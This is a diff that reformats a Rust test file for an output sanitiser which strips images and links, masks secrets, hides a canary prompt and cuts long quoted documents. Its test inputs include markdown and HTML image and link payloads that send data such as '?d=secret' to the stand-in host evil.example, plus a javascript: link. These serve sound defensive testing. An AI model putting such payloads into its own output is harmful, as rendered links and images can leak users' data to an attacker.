@@ -9,7 +9,11 @@ fn origins() -> Origins {
 fn clean(text: &str) -> Cleaned {
     let knowledge: String = (0..60).map(|word| format!("word{word} ")).collect();
     let origins = origins();
-    let speech = Speech { canary: "orchid-lantern-93", knowledge: &[&knowledge], origins: &origins };
+    let speech = Speech {
+        canary: "orchid-lantern-93",
+        knowledge: &[&knowledge],
+        origins: &origins,
+    };
     speech.clean(text)
 }
 
@@ -31,22 +35,58 @@ fn our_prompt_is_never_said() {
 #[test]
 fn strange_pictures_and_links_go() {
     let cases = [
-        ("See ![x](https://evil.example/a.png?d=secret).", "See .", Removed::Picture),
-        ("See [the offer](https://evil.example/?d=1) now", "See the offer now", Removed::Link),
+        (
+            "See ![x](https://evil.example/a.png?d=secret).",
+            "See .",
+            Removed::Picture,
+        ),
+        (
+            "See [the offer](https://evil.example/?d=1) now",
+            "See the offer now",
+            Removed::Link,
+        ),
         ("[a](//evil.example/x)", "a", Removed::Link),
         ("![a](data:image/png;base64,xyz) b", "b", Removed::Picture),
-        ("<img src=https://evil.example/x> done", "done", Removed::Picture),
-        ("<a href='https://evil.example'>click</a> it", "click it", Removed::Link),
-        ("done <img src=https://evil.example/x", "done", Removed::Picture),
-        ("Look at https://evil.example/c?d=secret, please", "Look at evil.example, please", Removed::Link),
-        ("https://secret.evil.example/c", "evil.example", Removed::Link),
-        ("[x][1]\n[1]: https://evil.example/c?d=1", "[x][1]", Removed::Link),
+        (
+            "<img src=https://evil.example/x> done",
+            "done",
+            Removed::Picture,
+        ),
+        (
+            "<a href='https://evil.example'>click</a> it",
+            "click it",
+            Removed::Link,
+        ),
+        (
+            "done <img src=https://evil.example/x",
+            "done",
+            Removed::Picture,
+        ),
+        (
+            "Look at https://evil.example/c?d=secret, please",
+            "Look at evil.example, please",
+            Removed::Link,
+        ),
+        (
+            "https://secret.evil.example/c",
+            "evil.example",
+            Removed::Link,
+        ),
+        (
+            "[x][1]\n[1]: https://evil.example/c?d=1",
+            "[x][1]",
+            Removed::Link,
+        ),
         ("[a](javascript:alert(1))", "a)", Removed::Link),
     ];
     for (text, left, reason) in cases {
         let cleaned = clean(text);
         assert_eq!(cleaned.text, left, "{text}");
-        assert!(cleaned.removed.contains(&reason), "{text}: {:?}", cleaned.removed);
+        assert!(
+            cleaned.removed.contains(&reason),
+            "{text}: {:?}",
+            cleaned.removed
+        );
     }
 }
 
@@ -71,11 +111,20 @@ fn keys_and_card_numbers_become_dots() {
 
 #[test]
 fn a_document_is_not_read_aloud() {
-    let quote = |words: usize| (0..words).map(|word| format!("word{word}")).collect::<Vec<_>>().join(" ");
+    let quote = |words: usize| {
+        (0..words)
+            .map(|word| format!("word{word}"))
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
     assert_eq!(clean(&quote(40)).removed, []);
     let long = clean(&format!("It says: {} and so on", quote(50)));
     assert_eq!(long.removed, [Removed::Knowledge]);
-    assert!(long.text.starts_with("It says: word0") && long.text.ends_with("and so on"), "{}", long.text);
+    assert!(
+        long.text.starts_with("It says: word0") && long.text.ends_with("and so on"),
+        "{}",
+        long.text
+    );
     assert!(!long.text.contains("word20"));
 }
 
